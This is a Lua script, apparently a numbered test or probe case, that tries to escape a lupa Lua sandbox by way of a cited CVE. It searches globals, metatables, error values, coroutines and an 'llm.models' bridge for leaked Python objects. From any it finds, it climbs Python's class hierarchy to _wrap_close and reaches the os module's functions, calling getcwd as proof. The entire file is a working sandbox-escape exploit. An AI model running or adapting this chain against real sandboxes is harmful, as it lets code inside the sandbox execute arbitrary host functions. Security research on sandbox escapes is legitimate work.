-- id = "L02"
-- title = "the way from None to every Python class"

-- CVE-2026-34444's ground: with lupa, one Python object in a spell's hand is all of Python.
local gains = {}

local function gain(what)
  if #gains < 20 then
    gains[#gains + 1] = what
  end
end

-- From any object of Python's: to its class, to object, to every class, to the functions of os.
local function climb(object, where)
  local ok, found = pcall(function()
    local attributes = python.as_attrgetter
    for class in python.iter(object.__class__.__base__.__subclasses__()) do
      if attributes(class).__name__ == "_wrap_close" then
        return attributes(class).__init__.__globals__.getcwd()
      end
    end
    return "every class"
  end)
  gain(where .. (ok and ": " .. tostring(found) or ": a Python object"))
end

pcall(function() climb(python.none, "python.none") end)

local seen = {}
local function walk(value, where, depth)
  if type(value) == "userdata" then
    climb(value, where)
  elseif type(value) == "thread" then
    gain(where .. ": a thread that is not ours")
  end
  local meta = getmetatable(value)
  if type(meta) == "table" and value ~= nil and type(value) ~= "string" then
    walk(meta, where .. "'s metatable", depth + 1)
  end
  if type(value) ~= "table" or seen[value] or depth > 20 then
    return
  end
  seen[value] = true
  for key, item in next, value do
    walk(key, where .. "'s key", depth + 1)
    walk(item, where .. "." .. tostring(key), depth + 1)
  end
end
walk(_G, "_G", 0)
walk(_ENV, "_ENV", 0)
walk(getmetatable(""), "the metatable of strings", 0)
for _, basic in ipairs({0, 0.5, true, print}) do
  walk(getmetatable(basic), "the metatable of a " .. type(basic), 0)
end

-- What the host answers and raises: exceptions carry tracebacks, and those their frames' globals.
local function raised(name, call, ...)
  local results = table.pack(pcall(call, ...))
  for i = 2, results.n do
    walk(results[i], name, 0)
  end
end
if json then
  raised("json.decode's error", json.decode, "{")
  raised("json.encode's error", json.encode, function() end)
  raised("a circular value's error", json.encode, _G)
  raised("json.decode's value", json.decode, '[null, {"a": [1.5, 1e308, ""]}]')
end
raised("the models' answer", llm.models)
raised("a bridge's error", llm.models, coroutine.create(print))
raised("a bridge's second error", llm.models, {}, {}, {}, 1, 2, 3)
local ok, message = xpcall(llm.models, function(e) return e end, print)
walk(message, "what a message handler sees", 0)
local thread = coroutine.create(function(...) llm.models(...) end)
raised("a coroutine's error", coroutine.resume, thread, print)
raised("a closed coroutine's error", coroutine.close, thread)
return gains
